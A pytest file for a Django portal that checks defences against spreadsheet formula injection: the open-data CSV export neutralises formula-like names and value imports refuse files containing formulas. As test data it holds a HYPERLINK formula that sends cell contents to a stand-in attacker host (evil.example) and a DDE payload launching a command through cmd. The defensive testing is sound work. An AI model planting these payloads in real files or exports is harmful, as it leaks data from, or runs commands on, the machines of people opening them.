"""Formula injection (issue 14, "Input"): the open-data CSV neutralises a formula-like text,
the indicator-values import refuses a file holding a formula and imports nothing."""

import csv
import io
import json
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from committees.models import Committee
from cte_portal.core.errors import RuleError
from roadmaps.models import IndicatorImport, IndicatorValue
from roadmaps.services.indicators import upload_values_file
from tests.clients import login
from tests.roadmaps.world import publish

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


def _content(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def test_the_open_data_csv_prefixes_a_formula_like_name_with_a_quote(client, world, roadmap):
    Committee.objects.filter(pk=world.cle.pk).update(name=ATTACK)
    publish(roadmap, world)
    response = client.get(reverse("open_data:download", args=["fiches-action", "csv"]))
    rows = list(csv.DictReader(io.StringIO(_content(response))))
    assert [row["comite_nom"] for row in rows] == ["'" + ATTACK]
    # JSON is not opened by a spreadsheet: the name stays as it is.
    response = client.get(reverse("open_data:download", args=["fiches-action", "json"]))
    assert json.loads(_content(response))["records"][0]["comite_nom"] == ATTACK


def _upload(world, filename, content):
    return upload_values_file(
        committee=world.cle, user=world.ddets69, filename=filename, content=content
    )


def test_a_csv_of_values_with_a_formula_is_refused_and_nothing_is_imported(world, indicators):
    content = (
        "indicateur,date,valeur,typologie,categorie\n"
        "retours-emploi,2025-01-01,12,,\n"
        "retours-emploi,2025-02-01,\"=cmd|' /C calc'!A0\",,\n"
    )
    with pytest.raises(RuleError, match=r"formule \(ligne 3, colonne C\)"):
        _upload(world, "valeurs.csv", content.encode())
    assert not IndicatorImport.objects.exists()
    assert not IndicatorValue.objects.exists()


def test_an_xlsx_of_values_with_a_formula_is_refused(world, indicators):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["indicateur", "date", "valeur", "typologie", "categorie"])
    sheet.append(["retours-emploi", date(2025, 3, 1), "=2*6", None, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(RuleError, match=r"formule \(ligne 2, colonne C\)"):
        _upload(world, "valeurs.xlsx", buffer.getvalue())
    assert not IndicatorImport.objects.exists()


def test_the_upload_screen_shows_the_refusal_in_french(client, world, indicators):
    login(client, world.ddets69)
    response = client.post(
        reverse("roadmaps:import_upload", args=[world.cle.pk]),
        {
            "file": SimpleUploadedFile(
                "valeurs.csv",
                b"indicateur,date,valeur\nretours-emploi,2025-01-01,=1+1\n",
                content_type="text/csv",
            )
        },
    )
    assert response.status_code == 200
    assert "les formules ne sont pas acceptées" in response.content.decode()
    assert not IndicatorImport.objects.exists()


def test_a_negative_value_is_still_imported(world, indicators):
    content = "indicateur,date,valeur,typologie,categorie\nretours-emploi,2025-01-01,-3,,\n"
    upload = _upload(world, "valeurs.csv", content.encode())
    assert upload.errors == []
